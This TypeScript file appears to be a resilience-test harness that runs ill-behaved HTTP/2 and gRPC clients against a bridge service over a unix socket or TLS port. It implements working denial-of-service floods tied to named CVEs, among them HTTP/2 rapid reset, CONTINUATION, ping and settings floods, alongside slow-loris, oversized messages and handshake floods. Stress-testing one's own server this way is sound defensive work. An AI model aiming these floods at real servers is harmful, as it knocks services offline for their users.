/**
 * A process that plays one kind of ill-behaved client against the server on a unix socket: `node attackers.js KIND SOCKET`, or
 * against a door of TLS: `node attackers.js handshakes HOST:PORT`. Runs until it is killed, as another user where it is told a
 * uid; says `ready` when all that it does is under way.
 */
import { once } from 'node:events'
import { connect as connectHttp2 } from 'node:http2'
import { connect, type Socket } from 'node:net'
import { setTimeout as delay } from 'node:timers/promises'
import { connect as connectTls } from 'node:tls'
import { fileURLToPath } from 'node:url'
import { callBlock, frame, greeting, indexedCallBlocks, preface } from './http2-frames.js'

/** What a connection sends, beginning with the number of the first stream that it has not used yet; 200 numbers are its own. */
type Piece = (firstStream: number) => Buffer

const floods = {
  /** CVE-2023-44487: streams that are reset as soon as they are opened. */
  'rapid-resets': firstStream =>
    repeatedWith(100, firstStream, id =>
      Buffer.concat([frame('headers', 4, id, callBlock(list)), frame('reset', 0, id, Buffer.from([0, 0, 0, 8]))]),
    ),
  /** CVE-2019-9512 and CVE-2019-9515: what has to be answered, and is so cheap to ask. */
  pings: always(repeated(500, frame('ping', 0, 0, Buffer.alloc(8)))),
  settings: always(repeated(500, frame('settings', 0, 0, Buffer.alloc(0)))),
  /** CVE-2024-27316: headers that have no end. */
  'endless-headers': firstStream =>
    Buffer.concat([
      frame('headers', 0, firstStream, callBlock(list)),
      repeated(20, frame('continuation', 0, firstStream, Buffer.from(`\0\x01x\x7e${'y'.repeat(126)}`))),
    ]),
  /** CVE-2019-9518: pieces of a request that have nothing in them. */
  'empty-pieces': firstStream => {
    const begin = firstStream === 1 ? frame('headers', 4, 1, callBlock(list)) : Buffer.alloc(0)
    return Buffer.concat([begin, repeated(500, frame('data', 0, 1, Buffer.alloc(0)))])
  },
  /** What HTTP/2 passes over, or takes note of, and tells nobody. */
  'unknown-frames': always(repeated(5_000, frame('unknown', 0, 0, Buffer.alloc(0)))),
  windows: always(repeated(3_000, frame('window', 0, 0, Buffer.from([0, 0, 0, 1])))),
  priorities: always(repeated(3_000, frame('priority', 0, 1, Buffer.from([0, 0, 0, 0, 1])))),
  /** As many as one connection may send, and more, on more connections than one. */
  calls: firstStream => repeatedWith(50, firstStream, id => call(id, callBlock(bandwidth))),
  /** The same in so few bytes that one read brings thousands. */
  'small-calls': firstStream => {
    const { first, further } = indexedCallBlocks(bandwidth)
    return repeatedWith(100, firstStream, id => call(id, id === 1 ? first : further))
  },
  /** Of a method that is not served. */
  strays: firstStream => repeatedWith(100, firstStream, id => frame('headers', 5, id, callBlock(nothing))),
  /** Of one stream that asks and asks: it is one call, however much it asks. */
  questions: firstStream => {
    const begin = firstStream === 1 ? frame('headers', 4, 1, callBlock(reflect)) : Buffer.alloc(0)
    return Buffer.concat([begin, frame('data', 0, 1, repeated(100, aboutService))])
  },
} satisfies Record<string, Piece>

type Flood = keyof typeof floods

/** What each does to the server at a path; those that never end by themselves resolve once they are under way. */
const others = {
  /** Further ones take the place of those that the server has let go. */
  idle: async path => {
    for (let i = 0; i < 5_000; i++) await open(path)
  },
  'slow-loris': path =>
    forEver(200, async () => {
      const socket = await open(path)
      for (let i = 0; i < preface.length && !socket.destroyed; i++) {
        socket.write(preface.subarray(i, i + 1))
        await delay(500)
      }
      socket.destroy()
    }),
  'huge-messages': path =>
    forEver(4, async () => {
      const client = session(path)
      const stream = client.request(headers(list))
      stream.on('error', () => {}).resume()
      const head = Buffer.alloc(5)
      head.writeUInt32BE(100_000_000, 1)
      stream.write(head)
      const piece = Buffer.alloc(1_000_000)
      const closed = new Promise(resolve => stream.once('close', resolve))
      for (let i = 0; i < 100 && !stream.destroyed; i++) {
        if (!stream.write(piece)) await Promise.race([closed, once(stream, 'drain').catch(() => undefined)])
      }
      client.destroy()
    }),
  /** As large as any that is taken, and with as many fields as go into it. */
  'full-messages': path =>
    forEver(4, async () => {
      const client = session(path)
      const message = Buffer.alloc(5 + 512 * 1024, Buffer.from([0x78, 0]))
      message.writeUInt8(0, 0)
      message.writeUInt32BE(message.length - 5, 1)
      for (let i = 0; i < 100 && !client.destroyed; i++) {
        const stream = client.request(headers(list))
        stream.on('error', () => {}).resume()
        stream.end(message)
        await new Promise(resolve => stream.once('close', resolve))
      }
      client.destroy()
    }),
  'huge-headers': path =>
    forEver(4, async () => {
      const client = session(path)
      const stream = client.request({ ...headers(list), 'x-padding': 'y'.repeat(1_000_000) })
      stream.on('error', () => {}).resume()
      await new Promise(resolve => stream.once('close', resolve))
      client.destroy()
    }),
  'never-reading': async path => {
    for (let i = 0; i < 20; i++) {
      // One after the other: it is what they leave behind that counts.
      await delay(50)
      const client = session(path)
      for (let j = 0; j < 100; j++) {
        const stream = client.request(headers(j % 2 === 0 ? watch : list))
        stream.on('error', () => {}).on('response', () => stream.pause())
        stream.end(emptyMessage)
      }
    }
  },
  /** Connections that have done nothing, and then all send at once what HTTP/2 passes over, again and again. */
  bursts: async path => {
    const sockets = await Promise.all(Array.from({ length: 400 }, () => open(path)))
    for (const socket of sockets) socket.resume().write(greeting)
    const piece = repeated(20_000, frame('unknown', 0, 0, Buffer.alloc(0)))
    forEver(1, async () => {
      await delay(500)
      for (const socket of sockets) if (!socket.destroyed) socket.write(piece)
    })
  },
  /** Calls after a goodbye, while another is open: what Node.js does with them by itself spoils its memory. */
  goodbyes: path =>
    forEver(16, async () => {
      const socket = await open(path)
      const closed = new Promise(resolve => socket.once('close', resolve))
      const goodbye = frame('goaway', 0, 0, Buffer.alloc(8))
      const late = repeatedWith(50, 3, id => frame('headers', 5, id, callBlock(list)))
      socket.resume().write(Buffer.concat([greeting, frame('headers', 4, 1, callBlock(list)), goodbye, late]))
      await Promise.race([closed, delay(40)])
      socket.destroy()
      await closed
    }),
  connections: path =>
    forEver(64, async () => {
      const socket = await open(path)
      socket.write(greeting)
      await once(socket, 'data').catch(() => undefined)
      socket.destroy()
    }),
  /** Of strangers, who have no certificate: that is known when the server has done its part. */
  handshakes: address =>
    forEver(64, async () => {
      const [host = '', port] = address.split(':')
      const socket = connectTls({ host, port: Number(port), rejectUnauthorized: false, ALPNProtocols: ['h2'] })
      const closed = new Promise(resolve => socket.once('close', resolve))
      socket.on('error', () => {}).once('secureConnect', () => socket.destroy())
      await closed
    }),
} satisfies Record<string, (path: string) => void | Promise<void>>

export type Attack = keyof typeof others | Flood | `many-${Flood}`

const floodNames = Object.keys(floods) as readonly Flood[]

const attackOf: Readonly<Record<string, (path: string) => void | Promise<void>>> = {
  ...others,
  ...Object.fromEntries(floodNames.map(name => [name, (path: string) => flood(path, 4, floods[name])])),
  ...Object.fromEntries(floodNames.map(name => [`many-${name}`, (path: string) => flood(path, 64, floods[name])])),
}

export const attacks = Object.keys(attackOf) as readonly Attack[]

export const attackersProgram = fileURLToPath(import.meta.url)

function open(path: string): Promise<Socket> {
  return new Promise(resolve => {
    const socket = connect(path)
    socket.on('error', () => resolve(socket)).once('connect', () => resolve(socket))
  })
}

/** Throws where nobody may come in: an attack on a shut door would look like one that does no harm. */
async function knock(address: string): Promise<void> {
  const [host = '', port] = address.split(':')
  const socket = address.startsWith('/') ? connect(address) : connect({ host, port: Number(port) })
  await once(socket, 'connect')
  socket.destroy()
}

/** Repeats, at most `many` at a time, for ever. */
function forEver(many: number, once: () => Promise<void>): void {
  const run = async () => {
    for (;;) await once().catch(() => undefined)
  }
  for (let i = 0; i < many; i++) void run()
}

/** What `next` gives, as fast as the server takes it, on so many connections; one that the server closes is opened anew. */
function flood(path: string, connections: number, next: Piece): void {
  forEver(connections, async () => {
    const socket = await open(path)
    socket.resume()
    // Not the greeting's window, which could not be made larger.
    socket.write(
      next === floods.windows ? Buffer.concat([preface, frame('settings', 0, 0, Buffer.alloc(0))]) : greeting,
    )
    const closed = new Promise(resolve => socket.once('close', resolve))
    for (let stream = 1; !socket.destroyed && stream < 0x7fffff00; stream += 200) {
      if (!socket.write(next(stream))) await Promise.race([closed, once(socket, 'drain').catch(() => undefined)])
    }
    socket.destroy()
    await closed
  })
}

function repeated(count: number, one: Buffer): Buffer {
  return Buffer.concat(Array.from({ length: count }, () => one))
}

function always(piece: Buffer): Piece {
  return () => piece
}

function repeatedWith(count: number, firstStream: number, one: (stream: number) => Buffer): Buffer {
  return Buffer.concat(Array.from({ length: count }, (_, i) => one(firstStream + 2 * i)))
}

const call = (stream: number, block: Buffer) =>
  Buffer.concat([frame('headers', 4, stream, block), frame('data', 1, stream, emptyMessage)])

const headers = (path: string) => ({
  ':method': 'POST',
  ':path': path,
  'content-type': 'application/grpc',
  te: 'trailers',
})
const list = '/ovs.bridge.v1.BridgeService/ListTaps'
const watch = '/ovs.bridge.v1.BridgeService/WatchTaps'
const bandwidth = '/ovs.bridge.v1.BridgeService/GetBandwidth'
const reflect = '/grpc.reflection.v1.ServerReflection/ServerReflectionInfo'
const nothing = '/ovs.bridge.v1.BridgeService/Nothing'
const emptyMessage = Buffer.alloc(5)
/** What file has the service: field 4 of grpc.reflection.v1.ServerReflectionRequest. */
const aboutService = Buffer.from('\0\0\0\0\x1d\x22\x1bovs.bridge.v1.BridgeService')

function session(path: string) {
  const made = connectHttp2('http://localhost', { createConnection: () => connect(path) })
  made.on('error', () => {})
  return made
}

if (process.argv[1] === attackersProgram) {
  const [, , kind, path = '', uid] = process.argv
  if (uid !== undefined) process.setuid?.(Number(uid))
  const known = attacks.find(one => one === kind)
  if (known === undefined) throw new Error(`no attack ${kind}`)
  await knock(path)
  await attackOf[known]?.(path)
  process.stdout.write('ready\n')
  // Connections alone would not keep a process that the server has cut off.
  setInterval(() => {}, 1_000)
}
